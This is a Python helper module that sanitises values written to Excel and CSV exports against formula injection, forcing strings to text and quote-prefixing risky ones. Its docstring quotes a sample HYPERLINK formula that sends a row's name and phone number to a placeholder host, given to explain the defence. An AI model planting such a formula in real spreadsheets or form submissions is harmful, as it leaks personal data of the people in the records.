"""What a spreadsheet cell may hold. Every export (orders 台账, assets, KPI reports, plan lists) writes
its cells through here, for two reasons:

- citizens' and staff's text can carry control characters that a sheet cannot store (openpyxl refuses
  them, failing the whole export); they are dropped instead;
- text is always written as text, never as a formula (formula injection, CWE-1236): openpyxl stores any
  str starting with '=' as a live formula (and '#N/A' and the like as an error value), so an anonymous
  filing `=HYPERLINK("http://x/?p="&M2&N2,"详情")` would send the row's name and phone away when an
  operator opens the export. A text cell (data_type 's') is shown as typed; one that starts with a
  character Excel reads as the start of a formula (= + - @ tab CR) also gets the cell style's
  quotePrefix, so that editing the cell in Excel keeps it text too.
  Numbers stay numbers, dates stay dates.

CSV has no types: a CSV writer must pass each value through `csv_cell`, which prefixes such text with a
single quote (the OWASP recommendation). No export writes CSV today; `tests/lib/test_xlsx.py` fails
when a new writer (openpyxl workbook or csv writer) appears in a module it does not cover."""

from __future__ import annotations

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell, WriteOnlyCell
from openpyxl.worksheet.worksheet import Worksheet

# The characters with which a spreadsheet program starts reading a formula (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def clean(value: object) -> object:
    """The value without the control characters a sheet cannot hold."""
    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def put(cell: Cell, value: object) -> Cell:
    """Store value in cell: a str always as text (data_type 's'), anything else as openpyxl types it."""
    value = clean(value)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(FORMULA_START):
            cell.quotePrefix = True
    return cell


def write(ws: Worksheet, row: int, column: int, value: object) -> Cell:
    """ws.cell(row, column, value), with value stored as `put` does."""
    return put(ws.cell(row=row, column=column), value)


def _risky(value: str) -> bool:
    # what openpyxl would not store as plain text, or what Excel would read as a formula when edited
    return value.startswith(FORMULA_START) or value.startswith("#")


def row(sheet: Worksheet, values: list) -> list:
    """A row for sheet.append (normal or write-only sheet): each str that openpyxl would type as a
    formula or an error, or that starts like a formula, becomes a text cell; other values pass as
    they are (cleaned), so that a 100,000-row export does not build a cell object for every value."""
    out = []
    for value in values:
        value = clean(value)
        if isinstance(value, str) and _risky(value):
            value = put(WriteOnlyCell(sheet), value)
        out.append(value)
    return out


def csv_cell(value: object) -> object:
    """A value for a CSV file: text that a spreadsheet would read as a formula gets a leading '."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_row(values: list) -> list:
    return [csv_cell(v) for v in values]
